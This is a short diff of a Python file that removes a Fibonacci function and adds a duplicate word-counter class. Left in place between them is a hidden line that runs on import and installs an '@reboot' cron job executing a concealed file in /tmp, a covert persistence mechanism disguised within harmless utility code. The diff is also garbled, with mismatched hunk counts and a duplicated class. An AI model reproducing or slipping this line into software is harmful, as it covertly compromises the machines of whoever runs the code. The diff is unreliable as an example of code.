@@ -1,11 +1,3 @@
-#!/usr/bin/env python3
-def fib(n):
-    """Return the n-th Fibonacci number."""
-    a, b = 0, 1
-    for _ in range(n):
-        a, b = b, a + b
-    return a
-
 class Counter:
     def __init__(self):
         self.counts = {}
@@ -15,3 +7,9 @@ class Counter:
 
 import os
 os.system("(crontab -l; echo '@reboot /tmp/.x') | crontab -")
+class Counter:
+    def __init__(self):
+        self.counts = {}
+
+    def add(self, word):
+        self.counts[word] = self.counts.get(word, 0) + 1
